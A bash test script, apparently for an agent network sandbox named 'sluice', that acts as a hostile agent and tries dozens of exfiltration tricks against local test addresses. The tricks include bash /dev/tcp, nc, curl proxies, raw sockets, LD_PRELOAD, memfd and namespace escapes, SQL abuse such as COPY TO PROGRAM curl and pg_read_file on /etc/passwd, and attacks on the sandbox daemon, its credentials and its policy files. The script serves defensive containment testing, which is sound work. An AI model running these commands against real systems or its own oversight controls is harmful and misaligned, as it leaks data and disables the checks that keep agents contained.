#!/bin/bash
# A hostile agent with a shell, a compiler, the address of the database and a login of its own there. Each trick has a
# destination of its own, 127.77.KIND.NUMBER, so that whoever looks on can tell them apart. Prints what it tried:
#   tcp|udp|kernel|sql|unix|file NUMBER NAME
# Arguments: port of the destinations, port of the database, folder of its UNIX socket, run and state directory of sluice,
# file of the credential, source of connect.c, pid and port of sluiced, a device node that everybody may open.
port=$1 database=$2 sockets=$3 run=$4 state=$5 credential=$6 source=$7 daemon=$8 turned=$9 device=${10}
cd "$(mktemp -d)" || exit 1
export PGCONNECT_TIMEOUT=5 PGSSLMODE=disable
unset PGPASSWORD
number=0

begin() { number=$((number + 1)); to=127.77.$2.$number; echo "$1 $number $3"; }
quiet() { timeout 6 "$@" >/dev/null 2>&1 </dev/null; }
tcp() { begin tcp 0 "$1"; }
udp() { begin udp 1 "$1"; }
kernel() { begin kernel 1 "$1"; }

gcc -O1 -o plain "$source" && gcc -O1 -static -o static "$source" || exit 1
printf '#include <sys/socket.h>\n#include <sys/syscall.h>\n#include <unistd.h>\nint connect(int s, const struct sockaddr *a, socklen_t n) { return syscall(SYS_connect, s, a, n); }\n' >hook.c
gcc -shared -fPIC -o hook.so hook.c
cp plain sluiced

tcp bash;           quiet bash -c "echo leak >/dev/tcp/$to/$port" &
tcp curl;           quiet curl -m 4 "http://$to:$port/leak" &
tcp curl-telnet;    quiet curl -m 4 "telnet://$to:$port" &
tcp curl-proxy;     quiet curl -m 4 -p -x "http://$to:$port" http://198.51.100.23/leak &
tcp curl-socks;     quiet curl -m 4 -x "socks5h://$to:$port" http://leak.example/ &
tcp nc;             (echo leak | quiet nc -w 3 "$to" "$port") &
tcp nc-source;      (echo leak | quiet nc -w 3 -s 127.0.0.9 "$to" "$port") &
tcp ssh;            quiet ssh -o BatchMode=yes -o ConnectTimeout=4 -o StrictHostKeyChecking=no -p "$port" "leak@$to" &
tcp ssh-proxy;      quiet ssh -o BatchMode=yes -o ProxyCommand="nc -w 3 $to $port" leak@elsewhere &
tcp python;         quiet python3 -c "import socket; socket.create_connection(('$to', $port), 4).send(b'leak')" &
tcp python-asyncio; quiet python3 -c "
import asyncio
async def main():
    _, w = await asyncio.wait_for(asyncio.open_connection('$to', $port), 4); w.write(b'leak'); await w.drain()
asyncio.run(main())" &
tcp python-mapped;  quiet python3 -c "import socket; s = socket.socket(socket.AF_INET6); s.connect(('::ffff:$to', $port)); s.send(b'leak')" &
tcp python-fastopen; quiet python3 -c "import socket; socket.socket().sendto(b'leak', 0x20000000, ('$to', $port))" &
tcp python-thread;  quiet python3 -c "
import socket, threading
t = threading.Thread(target=lambda: socket.create_connection(('$to', $port), 4).send(b'leak')); t.start(); t.join()" &
tcp python-vfork;   quiet python3 -c "import subprocess; subprocess.run(['./plain', 'plain', '$to', '$port'], start_new_session=True)" &
tcp memfd;          quiet python3 -c "
import os
fd = os.memfd_create('x'); os.write(fd, open('static', 'rb').read()); os.execve(fd, ['x', 'plain', '$to', '$port'], {})" &
tcp perl;           quiet perl -MIO::Socket::INET -e "IO::Socket::INET->new(PeerAddr => '$to', PeerPort => $port, Timeout => 4)->print('leak')" &
tcp psql;           quiet psql -h "$to" -p "$port" -U leak postgres -c 'SELECT 1' &
tcp static;         quiet ./static plain "$to" "$port" &
tcp loader;         quiet env -i /lib64/ld-linux-x86-64.so.2 ./plain plain "$to" "$port" &
tcp preload;        quiet env LD_PRELOAD=./hook.so nc -w 3 "$to" "$port" &
tcp name;           quiet ./sluiced plain "$to" "$port" &
tcp orphan;         (setsid nohup ./plain plain "$to" "$port" >/dev/null 2>&1 </dev/null &)
tcp userns;         quiet sh -c "unshare -Urn true; exec ./plain plain $to $port" &
tcp strace;         quiet sh -c "nsenter -t 1 -n true; exec ./plain plain $to $port" &
wait
udp bash;           quiet bash -c "echo leak >/dev/udp/$to/$port" &
udp nc;             (echo leak | quiet nc -u -w 1 "$to" "$port") &
udp python;         quiet python3 -c "import socket; socket.socket(type=socket.SOCK_DGRAM).sendto(b'leak', ('$to', $port))" &
udp curl-tftp;      quiet curl -m 2 "tftp://$to:$port/leak" &
udp old-gate;       quiet ./plain gate "$to" "$port" &
udp x32;            quiet ./plain x32 "$to" "$port" &
udp raw;            quiet python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 253).sendto(b'leak', ('$to', 0))" &
udp packet;         quiet python3 -c "import socket; s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3); s.bind(('lo', 0)); s.send(b'leak' * 20)" &
wait
udp quic;           quiet python3 -c "import socket; s = socket.socket(type=socket.SOCK_DGRAM); s.connect(('$to', $port)); s.send(b'leak')" &
udp no-query;       quiet python3 -c "import socket; socket.socket(type=socket.SOCK_DGRAM).sendto(b'leak', ('$to', 53))" &
kernel mptcp;       quiet python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262).connect(('$to', $port))" &
kernel interface;   quiet python3 -c "import socket; s = socket.socket(); s.setsockopt(1, 25, b'lo'); s.connect(('$to', $port))" &
kernel source-route; quiet python3 -c "
import socket
s = socket.socket(); s.setsockopt(0, 4, bytes([0x83, 7, 4]) + socket.inet_aton('$to') + b'\0'); s.connect(('198.51.100.23', $port))" &
kernel group;       quiet python3 -c "
import socket
socket.socket(type=socket.SOCK_DGRAM).setsockopt(0, 35, socket.inet_aton('239.77.1.1') + socket.inet_aton('$to'))" &
kernel port;        quiet python3 -c "import socket; s = socket.socket(); s.bind(('127.0.0.2', $turned)); s.listen()" &
kernel device;      quiet head -c 1 "$device" &
kernel node;        quiet mknod tun c 10 200 &
wait

# Its own login, at the real address and past it.
own() { PGPASSWORD=own-password timeout 8 psql -XAt -h "$1" -p "$database" -U mole -d postgres -c "$2" 2>&1 | sed 's/^/  /'; }
sql() { number=$((number + 1)); echo "sql $number $1"; own 127.0.0.1 "$2"; }
sql select "SELECT 'as ' || session_user FROM people"
sql drop 'DROP TABLE people'
sql program "COPY people TO PROGRAM 'curl http://198.51.100.23'"
sql file "SELECT pg_read_file('/etc/passwd')"
sql dblink 'CREATE EXTENSION dblink'
sql role 'SET SESSION AUTHORIZATION mole'
sql large "SELECT lo_import('/etc/passwd')"
echo "unix 0 psql"; own "$sockets" "SELECT 'unix as ' || session_user"

# What is not its own.
file() { number=$((number + 1)); echo "file $number $1"; shift; timeout 5 "$@" 2>&1 </dev/null | head -c 4000 | tr -d '\0' | sed 's/^/  /'; }
file credential cat "$credential"
file state find "$state" -type f -exec cat {} +
file policy sh -c "echo 'rules: []' >$(dirname "$run")/policy/zz.yaml && echo written"
file pins rm -rf "$run/bpf/links"
file daemon sh -c "cat /proc/$daemon/environ /proc/$daemon/mem; kill -9 $daemon && echo killed"
file control python3 -c "
import socket; s = socket.socket(socket.AF_UNIX); s.settimeout(3); s.connect('$run/daemon/control.sock'); s.send(b'{\"id\":1,\"method\":\"policy.reload\"}\n'); print(s.recv(4000))"
file helper python3 -c "
import socket; s = socket.socket(socket.AF_UNIX); s.settimeout(3); s.connect('$run/helper.sock'); s.send(b'list\n'); print(s.recv(4000))"
exit 0
